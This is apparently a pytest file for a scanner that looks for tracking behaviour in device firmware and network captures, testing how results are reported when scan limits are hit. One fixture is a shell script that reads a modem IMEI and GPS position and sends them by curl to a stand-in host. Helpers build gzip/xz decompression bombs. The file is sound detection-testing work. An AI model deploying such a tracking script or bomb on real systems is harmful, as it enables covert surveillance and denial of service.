"""What a limit cut off: what came before it is told, the source is partial, and coverage says so."""

from __future__ import annotations

import gzip
import io
import random
import subprocess
import tarfile
import zlib
from pathlib import Path

import pytest

from iotwatch.batch.scan import Plan, exit_code, scan
from iotwatch.decode.web import http
from iotwatch.files import limits
from iotwatch.model import Confidence, Severity
from iotwatch.observe import collector
from iotwatch.open.pipeline import Options
from iotwatch.store import Store
from iotwatch.words.measures import LIMITS
from tests.talks import talk, write

PLAN = Plan(jobs=1)
SCRIPT = (
    b"#!/bin/sh\nIMEI=$(cat /sys/modem/imei)\nPOS=$(gpspipe -w -n 5 | grep latitude)\n"
    b'curl -s "http://report.fleet.example/track?imei=$IMEI&lat=$LAT&lon=$LON"\n'
)


def told(path: Path, folder: Path, plan: Plan = PLAN) -> tuple[dict[str, str], list[str], tuple[int, int]]:
    """Row and coverage of the source, findings by kind, and the exit codes of two runs (findings of any severity count)."""
    database = folder / "told.db"
    codes = [exit_code(scan([path], database, plan), Severity.CRITICAL, Confidence.LIKELY) for _ in range(2)]
    with Store(database) as store:
        (source,) = store.query("SELECT status, complete, reason, trouble FROM sources")
        rows = store.query("SELECT measure, subject FROM coverage")
        kinds = [row["kind"] for row in store.query("SELECT kind FROM findings")]
        asset = store.query("SELECT verdict FROM assets")
    over = [row["subject"] or row["measure"] for row in rows if row["measure"] in LIMITS]
    return (
        {**source, "verdict": asset[0]["verdict"] if asset else "", "over": ", ".join(over)},
        kinds,
        (codes[0], codes[1]),
    )


def bomb(folder: Path, program: str, *how: str) -> Path:
    """A tar with a script that reads and sends a position, and 270 MiB of zeros behind it, compressed by ``program``."""
    plain = folder / "plain.tar"
    with tarfile.open(plain, "w") as archive:
        info = tarfile.TarInfo("etc/init.d/report")
        info.size = len(SCRIPT)
        archive.addfile(info, io.BytesIO(SCRIPT))
        info = tarfile.TarInfo("var/zeros")
        info.size = 270 << 20
        with Path("/dev/zero").open("rb") as zeros:
            archive.addfile(info, zeros)
    packed = folder / "update.bin"
    with plain.open("rb") as given, packed.open("wb") as taken:
        subprocess.run([program, *how, "-c"], stdin=given, stdout=taken, check=True, timeout=120)
    plain.unlink()
    return packed


@pytest.mark.programs
@pytest.mark.parametrize("name", ["gzip", "xz"])
def test_what_stands_before_a_limit_is_judged(name: str, tmp_path: Path, program) -> None:
    source, kinds, codes = told(bomb(tmp_path, program(name), "-1"), tmp_path)
    assert "program" in kinds
    assert source["verdict"] in ("suspicious", "capable")
    assert (source["status"], source["complete"], codes) == ("partial", 0, (3, 3))
    assert source["over"]


def posted(path: Path, body: bytes, *fields: bytes) -> Path:
    """A capture of a car's unit that posts ``body`` by HTTP in segments of a usual size."""
    head = b"POST /api/report HTTP/1.1\r\nHost: fleet.example\r\nContent-Type: application/json\r\n"
    data = head + b"".join(field + b"\r\n" for field in fields) + b"Content-Length: %d\r\n\r\n" % len(body) + body
    pieces = [data[at : at + 1400] for at in range(0, len(data), 1400)]
    return write(path, talk(0, "192.168.1.20", "203.0.113.9", 80, *pieces))


def blanks(data: bytes, size: int) -> bytes:
    """``data`` and ``size`` blanks behind it, by gzip."""
    engine = zlib.compressobj(9, zlib.DEFLATED, 31)
    piece = b" " * (1 << 20)
    return engine.compress(data) + b"".join(engine.compress(piece) for _ in range(size >> 20)) + engine.flush()


POSITION = b'{"device": "unit-7", "latitude": 48.20849, "longitude": 16.37208, "speed": 31.5}'


def test_a_position_before_the_limit_of_a_body_is_told(tmp_path: Path) -> None:
    path = posted(tmp_path / "a.pcap", blanks(POSITION, 540 << 20), b"Content-Encoding: gzip")
    source, kinds, codes = told(path, tmp_path)
    assert "location" in kinds
    assert (source["status"], source["trouble"], codes) == ("partial", "limit", (3, 3))
    assert "bodies" in source["over"]
    with Store(tmp_path / "told.db") as store:
        (row,) = store.query("SELECT latitude, longitude FROM positions")
    assert (row["latitude"], row["longitude"]) == (48.20849, 16.37208)


def test_a_short_body_is_no_limit(tmp_path: Path) -> None:
    source, kinds, codes = told(
        posted(tmp_path / "a.pcap", gzip.compress(POSITION), b"Content-Encoding: gzip"), tmp_path
    )
    assert "location" in kinds
    assert (source["status"], source["over"], codes) == ("ok", "", (0, 0))


@pytest.mark.parametrize(
    ("body", "fields", "subject"),
    [
        (b"\x8b\x07\x80 not undone", [b"Content-Encoding: br"], "compressed"),
        (b"7z\xbc\xaf\x27\x1c" + bytes(range(256)) * 4, [], "a 7-Zip archive"),
        (random.Random(5).randbytes(3000), [], "encrypted"),
    ],
)
def test_a_body_that_is_not_opened_is_in_coverage(
    body: bytes, fields: list[bytes], subject: str, tmp_path: Path
) -> None:
    source, _, codes = told(posted(tmp_path / "a.pcap", body, *fields), tmp_path)
    with Store(tmp_path / "told.db") as store:
        rows = store.query("SELECT subject, value FROM coverage WHERE measure = 'bodies not opened'")
    assert [(row["subject"], row["value"]) for row in rows] == [(subject, 1.0)]
    assert (source["status"], codes) == ("ok", (0, 0))


def test_nesting_beyond_the_limit(tmp_path: Path) -> None:
    data = SCRIPT
    for _ in range(limits.WorkLimits().depth + 2):
        data = gzip.compress(data)
    (tmp_path / "nested.bin").write_bytes(data)
    source, _, codes = told(tmp_path / "nested.bin", tmp_path)
    assert (source["status"], source["verdict"], codes) == ("partial", "not-enough-data", (3, 3))
    assert source["over"] == "inner parts not opened"


def test_more_messages_than_the_limit(tmp_path: Path) -> None:
    lines = [b"GET /%d HTTP/1.1\r\nHost: fleet.example\r\n\r\n" % number for number in range(12)]
    path = write(tmp_path / "a.pcap", talk(0, "192.168.1.20", "203.0.113.9", 80, *lines))
    few = Options(limits=limits.WorkLimits(messages=5))
    source, _, codes = told(path, tmp_path, Plan(jobs=1, options=few))
    assert (source["status"], codes, source["over"]) == ("partial", (3, 3), "inner parts not opened")


def test_more_observations_than_the_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(collector, "MAX_OBSERVATIONS", 5)
    lines = [b"GET /%d HTTP/1.1\r\nHost: fleet%d.example\r\n\r\n" % (number, number) for number in range(12)]
    path = write(tmp_path / "a.pcap", talk(0, "192.168.1.20", "203.0.113.9", 80, *lines))
    source, _, codes = told(path, tmp_path)
    assert (source["status"], codes, source["over"]) == ("partial", (3, 3), "observations")


def test_a_decoder_that_left_some(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(http, "MESSAGES", 5)
    lines = [b"GET /%d HTTP/1.1\r\nHost: fleet.example\r\n\r\n" % number for number in range(12)]
    path = write(tmp_path / "a.pcap", talk(0, "192.168.1.20", "203.0.113.9", 80, *lines))
    source, _, codes = told(path, tmp_path)
    assert (source["status"], codes, source["over"]) == ("partial", (3, 3), "http")
